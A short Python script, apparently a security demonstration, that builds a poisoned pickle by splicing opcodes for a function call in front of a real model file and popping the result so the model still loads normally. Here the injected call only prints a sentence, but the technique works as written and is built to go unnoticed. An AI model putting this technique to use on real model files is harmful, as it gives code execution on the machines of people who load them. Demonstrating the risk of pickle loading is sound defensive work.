"""Writes poisoned.pkl: model.pkl with one call in front, which would run whenever somebody loads the file.

    python poison.py

Nothing is pickled or loaded here: it writes the opcodes of one call before those of the model, and takes its result away
again, so that what comes out of loading would still be the model and nobody would notice. The call prints a sentence; that of
an attacker would not. Do not load poisoned.pkl.
"""
from pathlib import Path

HERE = Path(__file__).resolve().parent

PROTO, GLOBAL, MARK, UNICODE, TUPLE, REDUCE, POP = b"\x80\x04", b"c", b"(", b"V", b"t", b"R", b"0"
CALL = (GLOBAL + b"builtins\nprint\n"
        + MARK + UNICODE + b"poisoned.pkl ran code while it was loaded\n" + TUPLE
        + REDUCE + POP)

model = (HERE / "model.pkl").read_bytes()
assert model.startswith(PROTO), "model.pkl is not of protocol 4"
(HERE / "poisoned.pkl").write_bytes(PROTO + CALL + model[len(PROTO):])
